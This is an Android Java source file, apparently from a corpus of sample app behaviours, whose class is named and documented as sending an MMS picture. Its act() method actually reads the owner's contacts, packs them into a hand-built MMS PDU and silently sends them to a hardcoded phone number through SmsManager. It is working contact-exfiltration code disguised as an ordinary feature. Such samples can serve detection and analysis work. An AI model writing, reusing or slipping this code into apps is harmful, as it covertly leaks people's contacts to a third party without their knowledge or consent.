package org.corpus;

import android.content.ContentProvider;
import android.content.ContentValues;
import android.database.Cursor;
import android.net.Uri;
import android.os.ParcelFileDescriptor;
import android.telephony.SmsManager;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.File;
import java.io.FileNotFoundException;
import java.io.FileOutputStream;
import java.io.IOException;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** An MMS whose PDU this app wrote: OMA-TS-MMS_ENC, M-Send.req. */
public class MmsPicture extends Screen {
    @Override
    protected void act() throws Exception {
        File file = new File(getCacheDir(), "send.pdu");
        try (FileOutputStream out = new FileOutputStream(file)) {
            out.write(message(Net.utf8(String.join("\n", Owner.contacts(this)))));
        }
        Uri place = Uri.parse("content://org.corpus.mmspicture.parts/send.pdu");
        SmsManager.getDefault().sendMultimediaMessage(this, place, null, null, null);
    }

    private static byte[] message(byte[] text) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream pdu = new DataOutputStream(bytes);
        pdu.write(
                new byte[] {
                    (byte) 0x8c, (byte) 0x80, (byte) 0x98, '1', 0, (byte) 0x8d, (byte) 0x92
                });
        pdu.write(new byte[] {(byte) 0x89, 1, (byte) 0x81, (byte) 0x97});
        pdu.write(Net.utf8("+12025550147/TYPE=PLMN\u0000"));
        pdu.write(new byte[] {(byte) 0x84, (byte) 0xa3, 1, 1});
        for (int left = text.length, shift = 28; shift >= 0; shift -= 7) {
            int digit = left >> shift & 0x7f;
            if (left >> shift != 0 || shift == 0) {
                pdu.writeByte(shift > 0 ? digit | 0x80 : digit);
            }
        }
        pdu.write(new byte[] {(byte) 0x83});
        pdu.write(text);
        return bytes.toByteArray();
    }

    /** Hands the PDU to the phone. */
    public static class Parts extends ContentProvider {
        @Override
        public boolean onCreate() {
            return true;
        }

        @Override
        public ParcelFileDescriptor openFile(Uri uri, String mode) throws FileNotFoundException {
            File file = new File(getContext().getCacheDir(), uri.getLastPathSegment());
            return ParcelFileDescriptor.open(file, ParcelFileDescriptor.MODE_READ_ONLY);
        }

        @Override
        public Cursor query(
                Uri uri, String[] columns, String where, String[] values, String order) {
            return null;
        }

        @Override
        public String getType(Uri uri) {
            return null;
        }

        @Override
        public Uri insert(Uri uri, ContentValues values) {
            return null;
        }

        @Override
        public int delete(Uri uri, String where, String[] values) {
            return 0;
        }

        @Override
        public int update(Uri uri, ContentValues row, String where, String[] values) {
            return 0;
        }
    }
}
